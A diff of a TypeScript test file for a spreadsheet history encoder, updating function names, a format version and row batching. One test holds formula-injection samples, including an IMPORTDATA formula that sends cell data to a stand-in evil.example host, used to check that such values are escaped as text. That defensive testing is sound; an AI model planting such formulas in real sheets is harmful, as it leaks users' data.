@@ -4,7 +4,8 @@
  * text stays text; a person can read the Summary column.
  */
 import { describe, expect, it } from "vitest";
-import { decodeHistoryRows, encodeRowChanges, type RowChanges } from "../../src/jobs/history/format";
+import { decodeHistoryRows } from "../../src/jobs/history/decode";
+import { encodeChanges, type RowChanges } from "../../src/jobs/history/format";
 import { undoLastRun } from "../../src/jobs/history/undo";
 import { CELL_CHAR_LIMIT, toCellValue } from "../../src/sheet/cell-value";
 import { url } from "./enrich-fakes";
@@ -22,7 +23,7 @@ const base: RowChanges = {
   cells: [],
 };
 /** As the sheet reads it back: the apostrophe that keeps text literal is not shown. */
-const readBack = (rows: ReturnType<typeof encodeRowChanges>) =>
+const readBack = (rows: ReturnType<typeof encodeChanges>) =>
   rows.map((row) => row.map((value) => String(value).replace(/^'/, "")));
 
 describe("compact history rows", () => {
@@ -33,7 +34,7 @@ describe("compact history rows", () => {
       { column: 3, header: "Company", before: "x".repeat(30_000), after: "y".repeat(30_000) },
       { column: 4, header: "Location", before: "", after: "Paris" },
     ];
-    const rows = encodeRowChanges(SECRET, { ...base, cells });
+    const rows = encodeChanges(SECRET, [{ ...base, cells }]);
     expect(rows.length).toBeGreaterThan(3);
     for (const row of rows)
       for (const cell of row) expect(String(cell).length).toBeLessThanOrEqual(CELL_CHAR_LIMIT);
@@ -52,11 +53,13 @@ describe("compact history rows", () => {
 
   it("hostile text stays text: every cell is written as toCellValue writes it, the JSON starts with {", () => {
     const evil = '=IMPORTDATA("https://evil.example/?"&A1)';
-    const rows = encodeRowChanges(SECRET, {
-      ...base,
-      url: '=HYPERLINK("https://evil.example")',
-      cells: [{ column: 2, header: "+cmd", before: evil, after: "@SUM(1)" }],
-    });
+    const rows = encodeChanges(SECRET, [
+      {
+        ...base,
+        url: '=HYPERLINK("https://evil.example")',
+        cells: [{ column: 2, header: "+cmd", before: evil, after: "@SUM(1)" }],
+      },
+    ]);
     const [row] = rows;
     // Time is a date (issue 23.10); every text cell is escaped.
     expect(row![1]).toBeInstanceOf(Date);
@@ -64,19 +67,30 @@ describe("compact history rows", () => {
       expect(value).toBe(toCellValue(String(value).replace(/^'/, "")));
     expect(String(row![3])).toBe(`'=HYPERLINK("https://evil.example")`);
     expect(String(row![4]).startsWith("'+cmd: ")).toBe(true);
-    expect(String(row![5]).startsWith('{"v":2,')).toBe(true);
+    expect(String(row![5]).startsWith('{"v":3,')).toBe(true);
   });
 
-  it("a refresh writes 7 history cells per changed row (Time as a date, and its UTC text)", () => {
+  it("a refresh of 200 rows writes 6 history rows of 7 cells: up to 40 changed rows each", () => {
     const start = [
       ["Profile URL", "Title", "Company"],
       ...Array.from({ length: 200 }, (_, index) => [url(`p${index}`), `Old ${index}`, ""]),
     ];
-    const w = historyWorld(start);
+    // Fresh data off: the API's 500 URLs a call, so the 200 rows are one write.
+    const w = historyWorld(start, { extras: {} });
     w.run();
     const cells = w.table.rows.reduce((sum, row) => sum + row.length, 0);
-    // 200 changed rows and the header row.
-    expect(cells).toBe(201 * 7);
+    // The header row's record (written first), then the 200 changed rows: ceil(200 / 40) more.
+    expect(cells).toBe(6 * 7);
+    // For people: Profile URL lists the rows, Summary says each one's changes, one a line.
+    const second = w.table.rows[1]!;
+    expect(second[3]!.split("\n")).toEqual(start.slice(1, 41).map((row) => row[0]));
+    const lines = second[4]!.split("\n");
+    expect(lines).toHaveLength(40);
+    expect(lines[0]).toMatch(
+      new RegExp(
+        `^${url("p0")}: \\(cached answer\\) Title: "Old 0" -> "New title p0"; Company: \\(empty\\) -> "New Co"; `,
+      ),
+    );
     expect(undoLastRun(w.history)).toMatchObject({ leftAlone: 0, notFound: 0, refused: 0 });
     expect(w.grid.cells.map((row) => row.slice(0, 3))).toEqual(start);
   });
